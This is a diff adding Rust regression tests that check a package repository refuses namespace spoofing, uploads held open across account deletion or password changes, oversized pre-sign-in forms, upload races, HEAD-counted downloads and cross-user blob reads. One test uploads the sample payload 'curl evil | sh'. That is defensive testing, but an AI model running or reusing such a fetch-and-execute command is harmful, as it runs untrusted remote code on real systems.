@@ -595,3 +595,144 @@ async fn strux_large_tree_through_sessions_aws() {
     let server = Server::start(&["--backend", "aws", "--create-resources"], &env);
     large_tree_through_sessions(&server).await;
 }
+
+/// Opens a request whose body is declared `extra` bytes longer than `prefix`, and sends
+/// the prefix: the rest is the caller's to send, or not.
+async fn partial(base: &str, method: &str, path: &str, content_type: &str, prefix: &[u8], extra: usize) -> tokio::net::TcpStream {
+    use tokio::io::AsyncWriteExt;
+    let head = format!(
+        "{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
+        prefix.len() + extra
+    );
+    let mut s = tokio::net::TcpStream::connect(base.trim_start_matches("http://")).await.unwrap();
+    s.write_all(head.as_bytes()).await.unwrap();
+    s.write_all(prefix).await.unwrap();
+    s
+}
+
+async fn answer_of(s: &mut tokio::net::TcpStream, within: Duration) -> String {
+    use tokio::io::AsyncReadExt;
+    let mut out = vec![];
+    let mut buf = vec![0u8; 8192];
+    let deadline = tokio::time::Instant::now() + within;
+    loop {
+        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
+            Ok(Ok(0)) | Err(_) => break,
+            Ok(Ok(n)) => {
+                out.extend_from_slice(&buf[..n]);
+                if String::from_utf8_lossy(&out).contains("\"status\"") {
+                    break;
+                }
+            }
+            Ok(Err(_)) => break,
+        }
+    }
+    String::from_utf8_lossy(&out).to_string()
+}
+
+/// An upload whose body is held back after its first file part, while `meanwhile`
+/// changes the account, then finished: it must not commit.
+async fn upload_across(base: &str, user: &str, password: &str, meanwhile: GoForm, path: &str, method: &str) -> String {
+    use tokio::io::AsyncWriteExt;
+    let tree = json!({"Name": "held", "FileNames": ["f"]}).to_string();
+    let (ct, body) = upload_form(user, password, "1.0.0", &tree, &[("held", "f", b"late bytes")]).finish();
+    let cut = body.len() - 40;
+    let mut s = partial(base, "POST", "/upload-pkg/", &ct, &body[..cut], 40).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let during = send(base, method, path, meanwhile).await;
+    assert_eq!(during.status, 200, "{}", during.text());
+    s.write_all(&body[cut..]).await.unwrap();
+    answer_of(&mut s, Duration::from_secs(10)).await
+}
+
+/// What the attack on the strux surface reproduced, each now refused: another user's
+/// namespace through a second `username`, commits that outlive a deletion or a password
+/// change, forms held before sign-in, race losers' status, HEAD counting a download,
+/// another user's staged bytes.
+#[tokio::test]
+async fn strux_refuses_what_the_attack_found() {
+    let (_dir, server, api) = embedded(&[]);
+    let b = server.base.as_str();
+    for (u, pw) in [("victim", "victim-password"), ("mallory", "mallory-password"), ("doomed", "doomed-password"), ("rekey", "rekey-password")] {
+        send(b, "POST", "/create-user/", creds(u, pw)).await.says(201, 1, true, &format!("User {u} created successfully."));
+    }
+    let tree = json!({"Name": "tool", "FileNames": ["run.sh"]}).to_string();
+    // 1. A second `username` after sign-in, before or after the files, is refused, and the
+    // victim's namespace stays empty.
+    for late in [false, true] {
+        let mut f = creds("mallory", "mallory-password");
+        if !late {
+            f = f.text("username", "victim");
+        }
+        f = f.text("version", "1.0.1").text("files_info", &tree).file("DIR$tool", "run.sh", b"curl evil | sh");
+        if late {
+            f = f.text("username", "victim");
+        }
+        let a = send(b, "POST", "/upload-pkg/", f).await;
+        assert_eq!(a.status, 400, "{}", a.text());
+        assert!(a.base()["message"].as_str().unwrap().contains("sent twice"), "{}", a.text());
+    }
+    let (s, _) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://victim/tool").await;
+    assert_eq!(s, 404, "nothing lands in the victim's namespace");
+
+    // 2. An upload in flight while its user is deleted does not commit, and the name,
+    // signed up again, inherits nothing.
+    let answer = upload_across(b, "doomed", "doomed-password", creds("doomed", "doomed-password"), "/user-delete/", "DELETE").await;
+    assert!(answer.starts_with("HTTP/1.1 401") || answer.starts_with("HTTP/1.1 404"), "{answer}");
+    send(b, "POST", "/create-user/", creds("doomed", "doomed-password-2")).await.says(201, 1, true, "User doomed created successfully.");
+    let (s, _) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://doomed/held").await;
+    assert_eq!(s, 404, "the deleted user's upload did not land");
+
+    // 3. Nor one in flight while the password changes.
+    let change = creds("rekey", "rekey-password").text("newPassword", "rekey-password-2");
+    let answer = upload_across(b, "rekey", "rekey-password", change, "/user-password-update/", "PUT").await;
+    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
+    let (s, _) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://rekey/held").await;
+    assert_eq!(s, 404);
+
+    // 4. Before sign-in, a form is refused past 64 KiB while the client is still sending.
+    let huge = "u".repeat(100 * 1024);
+    for (method, path, field) in [("GET", "/user-exist/", "username"), ("POST", "/upload-pkg/", "files_info")] {
+        let (ct, body) = GoForm::new().text(field, &huge).finish();
+        let mut s = partial(b, method, path, &ct, &body[..body.len() - 10], 6_000_000).await;
+        let answer = answer_of(&mut s, Duration::from_secs(5)).await;
+        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
+    }
+
+    // 5. Concurrent uploads of one version: one wins, every other one is status 2.
+    let racers: Vec<_> = (0..6)
+        .map(|i| {
+            let base = b.to_string();
+            let tree = tree.clone();
+            tokio::spawn(async move {
+                let content = format!("racer {i}");
+                send(&base, "POST", "/upload-pkg/", upload_form("victim", "victim-password", "2.0.0", &tree, &[("tool", "run.sh", content.as_bytes())])).await
+            })
+        })
+        .collect();
+    let mut won = 0;
+    for r in racers {
+        let a = r.await.unwrap();
+        match a.status {
+            201 => won += 1,
+            _ => a.says(409, 2, false, "Version 2.0.0 of the tool package already exists."),
+        }
+    }
+    assert_eq!(won, 1);
+
+    // 6. A HEAD of a download counts nothing.
+    let dl = || GoForm::new().text("username", "victim").text("pkgName", "tool").text("version", "2.0.0");
+    let (ct, body) = dl().finish();
+    let res = reqwest::Client::new().head(format!("{b}/download-package/")).header("content-type", ct).body(body).send().await.unwrap();
+    assert_eq!(res.status().as_u16(), 200);
+    let (s, body) = api.get("/repository/api/package/info/strux/packages?packageKey=strux://victim/tool").await;
+    assert_eq!(data(s, &body)["downloads"], 0, "a HEAD is not a download");
+
+    // 7. Another user cannot read a session's unpublished bytes, though the repository
+    // is public for READ.
+    let victim = api.as_user("victim", "victim-password");
+    let up = crate::uploads::upload(&victim, "strux", "packages", b"unpublished").await;
+    let id = up["session"]["id"].as_str().unwrap();
+    let (s, _) = api.as_user("mallory", "mallory-password").get(&format!("/blobs/uploads/{id}/content")).await;
+    assert_eq!(s, 403);
+}
